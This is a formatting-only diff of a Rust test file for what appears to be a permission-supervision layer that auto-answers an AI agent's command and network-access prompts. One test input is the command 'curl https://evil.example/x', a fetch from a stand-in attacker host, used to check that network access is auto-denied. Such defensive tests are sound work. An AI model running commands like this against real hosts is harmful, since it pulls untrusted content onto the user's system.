@@ -622,7 +622,11 @@ fn answers_by_meaning_from_the_template_only() {
             unverified,
             Want(Hold, CommandExec, true, FrameUnverified, ""),
         ),
-        ("content doubted", doubtful, Want(Hold, CommandExec, true, FrameUnverified, "")),
+        (
+            "content doubted",
+            doubtful,
+            Want(Hold, CommandExec, true, FrameUnverified, ""),
+        ),
         (
             "approve at a standing option",
             standing,
@@ -646,9 +650,7 @@ fn answers_by_meaning_from_the_template_only() {
     assert_eq!(d.reason, supervision::FRAME_UNVERIFIED);
     // Auto-deny with only Escape known (the footer, not the options, matched).
     let (config, mut agent) = on();
-    agent
-        .classes
-        .insert(NetworkAccess, supervision::Action::AutoDeny);
+    agent.classes.insert(NetworkAccess, supervision::Action::AutoDeny);
     let esc_only = Dialog {
         answers: answers(None, Some((None, supervision::ESCAPE))),
         ..claude_bash("curl https://evil.example/x")
